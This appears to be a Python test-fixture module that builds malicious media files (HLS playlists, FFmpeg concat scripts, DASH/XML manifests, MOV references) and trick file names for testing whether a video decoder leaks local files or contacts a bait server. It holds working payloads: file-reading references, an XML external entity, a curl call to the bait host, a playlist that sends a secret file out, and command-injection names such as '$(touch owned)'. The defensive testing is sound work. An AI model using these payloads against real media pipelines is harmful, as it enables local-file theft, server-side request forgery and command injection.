"""Files that name other files or hosts, in the hope that whoever opens them goes and looks."""

import base64
import struct
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import cv2

from tests import broken_clips, clips
from tests.attacks.containers import MEDIA, avi, box, change_box, gab2

# What a careless program would guess the format from.
SUFFIXES = ("mp4", "mov", "mkv", "webm", "avi", "ts", "gif", "m3u8", "txt", "jpg", "html")
SECRET = "the victim's password is tangerine"
# Those of the victim are painted from here on; attackers' own begin at 0.
VICTIMS_FIRST_NUMBER = 1234
OWN_FRAMES = 3


@dataclass(frozen=True)
class Victim:
    """Files of somebody else, as near to the attack as they can be."""

    folder: Path

    @classmethod
    def draw(cls, folder: Path) -> "Victim":
        """Videos, pictures and a text in a folder and a folder in it."""
        for place in (folder, folder / "sub"):
            place.mkdir(exist_ok=True)
            for name in ("victim.mp4", "victim.ts"):
                clips.draw_clip(place / name, frames=50, first_number=VICTIMS_FIRST_NUMBER)
            for number in (1, 2, 3):
                painted = clips.paint(VICTIMS_FIRST_NUMBER + number, width=160, height=96)
                cv2.imwrite(str(place / f"img{number:03}.jpg"), painted)
            (place / "victim.txt").write_text(f"{SECRET}\n" * 20)
        (folder / "deep").mkdir(exist_ok=True)
        return cls(folder)


def playlist(*lines: str) -> bytes:
    """An HLS playlist."""
    return "\n".join(("#EXTM3U", "#EXT-X-TARGETDURATION:2", *lines, "#EXT-X-ENDLIST", "")).encode()


def concat(*lines: str) -> bytes:
    """A script of FFmpeg's concat demuxer."""
    return "\n".join(("ffconcat version 1.0", *lines, "")).encode()


def references(victim: Victim, bait: str) -> dict[str, bytes]:
    """What an attacker may write, by its kind.

    Args:
        victim: whose files are named.
        bait: address of a server that must hear of nothing.
    """
    folder = victim.folder
    text = {
        **_concats(folder, bait),
        **_playlists(folder, bait),
        **_sessions(bait),
        **_manifests(bait),
        **_scripts(folder, bait),
    }
    # FFmpeg leaps over a tag of MP3 before it looks at what a file is.
    tag = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10)
    tagged = {f"{name}-behind-a-tag": tag + text[name] for name in ("concat-sibling", "hls-http", "dash-http")}
    return text | tagged


def _concats(folder: Path, bait: str) -> dict[str, bytes]:
    return {
        "concat-sibling": concat("file victim.mp4"),
        "concat-subfolder": concat("file sub/victim.mp4"),
        # The decoding process stands in the root folder.
        "concat-from-the-root": concat(f"file {folder.relative_to('/')}/victim.mp4"),
        "concat-absolute": concat(f"file {folder}/victim.mp4"),
        "concat-url": concat(f"file file://{folder}/victim.mp4"),
        "concat-parent": concat("file ../victim.mp4"),
        "concat-http": concat(f"file {bait}/concat.mp4"),
        "concat-text": concat("file victim.txt"),
        "concat-pictures": concat("file img%03d.jpg"),
        "concat-protocols": concat("file concat:victim.ts|victim.ts"),
        "concat-itself": concat("file concat-itself.mp4"),
    }


def _playlists(folder: Path, bait: str) -> dict[str, bytes]:
    local = ("#EXTINF:2,", "victim.ts")
    inner = base64.b64encode(playlist("#EXTINF:2,", f"{bait}/data.ts")).decode()
    return {
        "hls-sibling": playlist(*local),
        "hls-absolute": playlist("#EXTINF:2,", f"{folder}/victim.ts"),
        "hls-file-url": playlist("#EXTINF:2,", f"file://{folder}/victim.ts"),
        "hls-http": playlist("#EXTINF:2,", f"{bait}/segment.ts"),
        "hls-key": playlist(f'#EXT-X-KEY:METHOD=AES-128,URI="{bait}/key"', *local),
        "hls-map": playlist(f'#EXT-X-MAP:URI="{bait}/map.mp4"', *local),
        "hls-text-as-map": playlist('#EXT-X-MAP:URI="victim.txt"', "#EXTINF:2,", f"{bait}/segment.ts"),
        "hls-master": playlist("#EXT-X-STREAM-INF:BANDWIDTH=1", f"{bait}/variant.m3u8"),
        "hls-master-sibling": playlist("#EXT-X-STREAM-INF:BANDWIDTH=1", "variant.m3u8"),
        "hls-sound": playlist(
            f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{bait}/sound.m3u8"',
            '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"',
            "variant.m3u8",
        ),
        "hls-carries-text-out": playlist("#EXTINF:2,", f"concat:{bait}/leak?|file://{folder}/victim.txt"),
        "hls-data-url": playlist("#EXTINF:2,", f"data:application/vnd.apple.mpegurl;base64,{inner}"),
        "hls-part-of-a-file": playlist("#EXTINF:2,", f"subfile,,start,0,end,9999,,:{folder}/victim.ts"),
        "hls-crypto": playlist("#EXTINF:2,", f"crypto+file://{folder}/victim.ts"),
    }


def _sessions(bait: str) -> dict[str, bytes]:
    host, _, port = bait.removeprefix("http://").partition(":")
    lines = ("v=0", f"o=- 0 0 IN IP4 {host}", "s=-", f"c=IN IP4 {host}", "t=0 0", f"m=video {port} RTP/AVP 96")
    return {
        "sdp": "\r\n".join((*lines, "a=rtpmap:96 H264/90000", "")).encode(),
        "rtsp": f"RTSPtextRTSP://{host}:{port}/stream".encode(),
        "asx": f"[Reference]\r\nRef1=http://{host}:{port}/asx.wmv\r\n".encode(),
        "ram": f"rtsp://{host}:{port}/ram.rm\nhttp://{host}:{port}/ram.rm\n".encode(),
    }


def _manifests(bait: str) -> dict[str, bytes]:
    def dash(address: str) -> bytes:
        return (
            '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" minBufferTime="PT1S" '
            'mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet '
            'mimeType="video/mp4"><Representation id="1" bandwidth="1" width="160" height="96">'
            f"<BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>\n"
        ).encode()

    return {
        "dash-http": dash(f"{bait}/dash.mp4"),
        "dash-sibling": dash("victim.mp4"),
        "xml-entity": b'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "victim.txt">]><MPD>&x;</MPD>\n',
        "smil": f'<smil><body><video src="{bait}/smil.mp4"/></body></smil>'.encode(),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait}/svg.png"/></svg>'.encode(),
        "html": f'<!doctype html><video src="{bait}/html.mp4"></video><img src="victim.jpg">'.encode(),
    }


def _scripts(folder: Path, bait: str) -> dict[str, bytes]:
    return {
        "tty": f"\x1b[31m{SECRET}\x1b[0m\r\n".encode() * 40,
        "avisynth": f'DirectShowSource("{folder}/victim.mp4")\n'.encode(),
        "vapoursynth": f'import os; os.system("curl {bait}/vs")\n'.encode(),
        "filter-graph": b"movie=victim.mp4",
        "subtitles": f"1\n00:00:00,000 --> 00:00:02,000\n<img src={bait}/srt.png>\n".encode(),
        "url": f"{bait}/url.mp4\n".encode(),
        "data-url": b"data:video/mp4;base64," + base64.b64encode(b"ftypisom"),
        "shortcut": f"[InternetShortcut]\r\nURL={bait}/shortcut\r\n".encode(),
    }


@dataclass(frozen=True)
class Movies:
    """Attacks inside of files that are videos, or look much like one."""

    own_frames: Mapping[str, bytes]
    """Their own pictures are what may come out, 0 to 2."""
    no_frames: Mapping[str, bytes]
    """Nothing of their own is in them."""


def movies(victim: Victim, bait: str, *, folder: Path) -> Movies:
    """References inside of video files, drawn in `folder`."""
    own = clips.draw_clip(folder / "own.mov", frames=OWN_FRAMES, b_frames=0).path.read_bytes()
    picture = broken_clips.picture_file(".jpg")
    return Movies(
        own_frames={
            "subtitle-playlist": avi(picture, subtitle=gab2(playlist("#EXTINF:2,", f"{bait}/gab2.ts"))),
            "subtitle-concat": avi(picture, subtitle=gab2(concat("file victim.mp4"))),
        },
        no_frames={
            "data-elsewhere-url": _elsewhere(own, b"url ", f"file://{victim.folder}/victim.mp4\0".encode()),
            "data-elsewhere-http": _elsewhere(own, b"url ", f"{bait}/dref.mp4\0".encode()),
            "data-elsewhere-alias": _elsewhere(own, b"alis", _alias(victim.folder / "victim.mp4")),
            "reference-movie": _reference_movie(f"{bait}/rmra.mov"),
            "reference-movie-sibling": _reference_movie("victim.mp4"),
        },
    )


def _elsewhere(movie: bytes, kind: bytes, where: bytes) -> bytes:
    """The movie, with its pictures said to lie in another file."""
    reference = bytes(4) + struct.pack(">I", 1) + box(kind, bytes(4) + where)
    path = (*MEDIA, b"minf", b"dinf", b"dref")
    # Without its own data, so that what comes out can only be another's.
    return change_box(change_box(movie, path, lambda _: reference), (b"mdat",), lambda content: bytes(len(content)))


def _alias(path: Path) -> bytes:
    """An alias record of the Mac: head, volume, name, then tagged paths."""
    name = path.name.encode()
    head = bytes(6) + struct.pack(">HH", 2, 0) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    head += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    whole = str(path).encode()
    tags = b"".join(
        struct.pack(">HH", tag, len(content)) + content + bytes(len(content) % 2)
        for tag, content in ((2, whole), (18, whole), (19, b"/"))
    )
    return head + tags + struct.pack(">HH", 0xFFFF, 0)


def _reference_movie(address: str) -> bytes:
    target = bytes(4) + b"url " + struct.pack(">I", len(address) + 1) + address.encode() + b"\0"
    movie = box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", target))))
    return box(b"ftyp", b"qt  " + bytes(4) + b"qt  ") + movie


# Names that FFmpeg would take for something else; the file of that name is an honest clip.
NAMES = (
    "concat:victim.ts|victim.ts",
    "subfile,,start,0,end,99999,,:victim.mp4",
    "file:victim.mp4",
    "crypto:victim.mp4",
    "cache:victim.mp4",
    "async:victim.mp4",
    "img%03d.jpg",
    "img*.jpg",
    "pipe:0",
    "fd:",
    "data:text,x",
    "-i",
    "--help",
    "victim.mp4\n",
    "\x1b[31mred",
    "%s%n%x",
    "tcp:127.0.0.1",
    "lavfi:testsrc",
    "movie=victim.mp4",
    "$(touch owned)",
    "; touch owned",
)
